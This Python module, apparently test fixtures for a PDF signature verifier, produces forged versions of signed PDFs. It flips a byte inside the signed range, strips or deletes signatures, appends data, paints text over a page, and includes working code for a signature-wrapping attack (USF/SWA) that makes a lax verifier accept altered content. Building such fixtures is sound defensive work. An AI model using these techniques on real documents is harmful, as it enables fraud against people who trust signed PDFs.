"""What forgers do to signed PDFs; each returns a file that still opens in a viewer."""

import io
import re
from typing import Final

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from reportlab.pdfgen.canvas import Canvas

from web.cardkit import form_style as look

_END: Final = b"%%EOF"
_CREATED: Final = re.compile(rb"/CreationDate \(D:\d{3}(\d)")
_BYTE_RANGE: Final = re.compile(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def change_one_byte(content: bytes) -> bytes:
    """Change one digit of the creation date, inside what every signature covers."""
    found = _CREATED.search(content)
    if found is None:
        raise ValueError("the PDF has no creation date")
    position = found.start(1)
    other = b"1" if found[1] != b"1" else b"2"
    return content[:position] + other + content[position + 1 :]


def strip_last_signature(content: bytes) -> bytes:
    """Cut the file at the end of the revision before the last one."""
    last = content.rstrip().rfind(_END)
    before = content.rfind(_END, 0, last)
    return content[: before + len(_END)] + b"\n"


def append_bytes(content: bytes) -> bytes:
    """Put a comment behind the end of the file, where no signature covers it."""
    return content + b"% appended after signing\n"


def draw_over_page(content: bytes, text: str) -> bytes:
    """Paint a patch with `text` over the last page, by an incremental update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(content))
    _draw_over(writer, text)
    return _written(writer)


def delete_signature(content: bytes, field_name: str) -> bytes:
    """Take a signature's value out of its field, by an incremental update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(content))
    field = _find_field(writer, field_name)
    del field["/V"]
    writer.update_container(field)
    return _written(writer)


def redefine_signature(content: bytes, field_name: str, text: str) -> bytes:
    """Replace the page and make the last signature look as if it covered that.

    The appended revision defines the signature's dictionary again, with the same CMS and byte
    range but with as much padding in /Contents as the revision is long. A verifier that adds up
    lengths, and does not look where the gap is, sees a signature over the whole file (attack
    classes USF and SWA of Mladenov et al., CCS 2019).
    """
    padding = len(_redefined(content, field_name, text, padding=0)) - len(content)
    for _ in range(4):
        forged = _redefined(content, field_name, text, padding=padding)
        missing = len(forged) - _claimed_length(content, padding)
        if missing == 0:
            return forged
        padding += missing
    raise ValueError("the padding does not settle")


def _claimed_length(content: bytes, padding: int) -> int:
    """Return what the last signature's ranges and its padded, hexadecimal value add up to."""
    *_, last = _BYTE_RANGE.finditer(content)
    first_end, second_start, second_length = map(int, last.groups())
    return first_end + second_length + (second_start - first_end) + 2 * padding


def _redefined(content: bytes, field_name: str, text: str, *, padding: int) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(content))
    _draw_over(writer, text)
    reference = _find_field(writer, field_name).raw_get("/V")
    dictionary = reference.get_object()
    value = dictionary.raw_get("/Contents")
    dictionary[pdf_name("/Contents")] = _Padded(bytes(value), padding)
    writer.mark_update(reference)
    return _written(writer)


class _Padded(generic.PdfObject):
    """A string written as literal bytes, so that padding costs one byte, not two digits."""

    def __init__(self, value: bytes, padding: int) -> None:
        super().__init__()
        self._value = value + bytes(padding)

    def write_to_stream(
        self, stream: io.BytesIO, handler: object = None, container_ref: object = None
    ) -> None:
        """Write the string; pyHanko calls this."""
        del handler, container_ref
        escaped = re.sub(rb"([()\\])", rb"\\\1", self._value).replace(b"\r", rb"\r")
        stream.write(b"(" + escaped + b")")


def _draw_over(writer: IncrementalPdfFileWriter, text: str) -> None:
    look.load_fonts()
    output = io.BytesIO()
    canvas = Canvas(
        output,
        pagesize=(150, 24),
        invariant=1,
        initialFontName=look.REGULAR,  # type: ignore[arg-type]  # the stubs call it a number
    )
    canvas.setFillColorRGB(1, 1, 1)
    canvas.rect(0, 0, 150, 24, stroke=0, fill=1)
    canvas.setFillColor(look.INK)
    canvas.setFont(look.BOLD, 11)
    canvas.drawString(4, 8, text)
    canvas.showPage()
    canvas.save()
    form = writer.import_page_as_xobject(PdfFileReader(io.BytesIO(output.getvalue())))
    patch = generic.StreamObject(stream_data=b"q 1 0 0 1 200 420 cm /Patch Do Q")
    resources = _dictionary(XObject=_dictionary(Patch=form))
    writer.add_stream_to_page(  # type: ignore[no-untyped-call]
        -1, writer.add_object(patch), resources
    )


def _dictionary(**entries: generic.PdfObject) -> generic.DictionaryObject:
    named = {pdf_name(f"/{key}"): value for key, value in entries.items()}
    return generic.DictionaryObject(named)  # type: ignore[no-untyped-call]


def _find_field(writer: IncrementalPdfFileWriter, name: str) -> generic.DictionaryObject:
    fields = writer.root["/AcroForm"]["/Fields"]
    found: generic.DictionaryObject = next(
        f.get_object() for f in fields if f.get_object()["/T"] == name
    )
    return found


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    output = io.BytesIO()
    writer.write(output)  # type: ignore[no-untyped-call]
    return output.getvalue()
